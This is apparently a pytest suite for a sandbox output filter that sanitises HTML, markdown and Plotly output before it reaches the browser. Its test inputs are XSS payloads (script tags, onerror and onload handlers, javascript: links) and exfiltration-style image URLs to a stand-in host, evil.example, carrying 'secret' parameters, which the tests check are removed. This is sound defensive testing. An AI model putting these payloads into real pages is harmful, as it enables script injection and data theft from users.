"""The output filter: what sandboxed output may carry into the browser, and how much of it."""
import base64

import pytest

from sandbox_kernel.outputfilter import (OutputFilter, OutputRejected, sanitize_html, sanitize_markdown,
                                         validate_plotly)

PLOTLY = "application/vnd.plotly.v1+json"


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<svg onload=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<object data='x.swf'></object><embed src='x'>",
    "<form action='http://evil'><input></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
])
def test_html_loses_every_script_vector(html):
    clean = sanitize_html(html).lower()
    for bad in ("<script", "onerror", "onload", "javascript:", "<iframe", "srcdoc", "<object", "<embed",
                "<form", "url("):
        assert bad not in clean


def test_html_keeps_tables_and_drops_remote_images():
    table = ('<style scoped>.dataframe td {color: red}</style><table border="1" class="dataframe">'
             '<thead><tr style="text-align: right;"><th>a</th></tr></thead><tbody><tr><td>1</td></tr>'
             '</tbody></table>')
    clean = sanitize_html(table)
    assert '<table border="1" class="dataframe">' in clean and "<td>1</td>" in clean
    assert "text-align:right" in clean.replace(" ", "")
    assert "color: red" not in clean  # the <style> block's text does not leak
    png = "data:image/png;base64," + base64.b64encode(b"\x89PNG").decode()
    assert png in sanitize_html(f'<img src="{png}">')
    # A remote image would be fetched by the browser without a click: a data exfiltration channel.
    assert "evil.example" not in sanitize_html('<img src="https://evil.example/?secret=1">')


@pytest.mark.parametrize("markdown, gone", [
    ("<script>alert(1)</script>", "<script"),
    ("[click](javascript:alert(1))", "javascript:"),
    ("[click]( JAVASCRIPT:alert(1))", "JAVASCRIPT:"),
    ("[click](&#106;avascript:alert(1))", "&#106;"),
    ("[click](data:text/html;base64,PHNjcmlwdD4=)", "data:text"),
    ("![x](https://evil.example/leak?d=secret)", "evil.example"),
    ("[x]: javascript:alert(1)\n\n[y][x]", "javascript:"),
    ("[x]: https://evil.example/p.png\n\n![y][x]", "evil.example"),
    ("<img src=x onerror=alert(1)>", "<img"),
])
def test_markdown_has_no_raw_html_or_dangerous_links(markdown, gone):
    assert gone not in sanitize_markdown(markdown)


def test_markdown_keeps_ordinary_formatting_and_links():
    text = "# Title\n\n**bold** and [docs](https://example.org/a) and ![plot](plot.png)\n\n> quote"
    assert sanitize_markdown(text) == text


def test_plotly_figure_is_validated():
    fig = {"data": [{"type": "scatter", "x": [1, 2], "y": [3, 4]}], "layout": {"title": {"text": "t"}},
           "config": {"responsive": True, "plotlyServerURL": "https://evil.example", "topojsonURL": "//x"}}
    clean = validate_plotly(fig)
    assert clean["data"] == fig["data"] and clean["config"] == {"responsive": True}
    for bad in ({"data": "nope"}, [], {"data": [1]}, {"data": [], "script": "x"},
                {"data": [], "layout": {"images": [{"source": "https://evil.example/x.png"}]}},
                {"data": [{"type": "scatter", "text": "<a href='javascript:alert(1)'>x</a>"}]},
                {"data": [{"x": object()}]}):
        with pytest.raises(OutputRejected):
            validate_plotly(bad)


def test_bundle_keeps_only_allowlisted_types():
    cell = OutputFilter().cell()
    data, _ = cell.bundle({"text/plain": "x", "application/javascript": "alert(1)",
                           "text/html": "<b>ok</b><script>alert(1)</script>",
                           "image/svg+xml": "<svg onload=alert(1)>",
                           "application/vnd.jupyter.widget-view+json": {"model_id": "x"}})
    assert set(data) == {"text/plain", "text/html"}
    assert data["text/html"] == "<b>ok</b>"
    assert {f["mime"] for f in cell.filtered} == {"application/javascript", "image/svg+xml",
                                                  "application/vnd.jupyter.widget-view+json"}
    assert cell.bundle({"application/javascript": "alert(1)"}) is None
    assert cell.bundle({"image/png": "<script>"}) is None


def test_operator_can_widen_the_allowlist():
    cell = OutputFilter(allowlist=("text/plain", "image/svg+xml")).cell()
    data, _ = cell.bundle({"image/svg+xml": "<svg></svg>", "text/html": "<b>x</b>"})
    assert data == {"image/svg+xml": "<svg></svg>"}


def test_metadata_keeps_only_layout_hints():
    _, metadata = OutputFilter().cell().bundle(
        {"image/png": "AAAA"}, {"image/png": {"width": 10, "onload": "x"}, "text/html": {"isolated": True},
                                "application/javascript": {"x": 1}})
    assert metadata == {"image/png": {"width": 10}}


def test_stream_head_and_tail_with_marker():
    cell = OutputFilter(text_bytes=1000).cell()
    published = []
    for i in range(200):
        published += cell.stream("stdout", f"line {i:04d}\n")
    live = "".join(t for _, t in published)
    assert live.startswith("line 0000") and len(live.encode()) <= 750
    tail = cell.finish()
    assert "output truncated" in tail[0][1] and tail[0][0] == "stderr"
    end = "".join(t for _, t in tail[1:])
    assert end.endswith("line 0199\n") and len(end.encode()) <= 250
    assert cell.truncated and cell.cut_bytes == 200 * 10 - len(live) - len(end)


def test_small_output_is_untouched():
    cell = OutputFilter(text_bytes=1000).cell()
    assert cell.stream("stdout", "hello\n") == [("stdout", "hello\n")]
    assert cell.finish() == [] and not cell.truncated


def test_display_over_the_rich_budget_becomes_a_note():
    cell = OutputFilter(rich_bytes=1000).cell()
    fig = {"data": [{"type": "scatter", "y": list(range(1000))}]}
    data, _ = cell.bundle({PLOTLY: fig, "text/plain": "Figure"})
    assert set(data) == {"text/plain"} and "omitted" in data["text/plain"]
    assert cell.truncated


def test_huge_text_plain_result_is_cut_head_and_tail():
    cell = OutputFilter(text_bytes=1000).cell()
    data, _ = cell.bundle({"text/plain": "a" * 5000 + "END"})
    assert len(data["text/plain"]) < 1100 and data["text/plain"].endswith("END") and "cut" in data["text/plain"]


def test_error_is_capped():
    err = OutputFilter().cell().error("E" * 1000, "v" * 100_000, ["x" * 1000] * 1000)
    assert len(err["ename"]) == 200 and len(err["evalue"]) == 4000
    assert sum(len(line) for line in err["traceback"]) < 70_000 and "cut" in err["traceback"][-1]
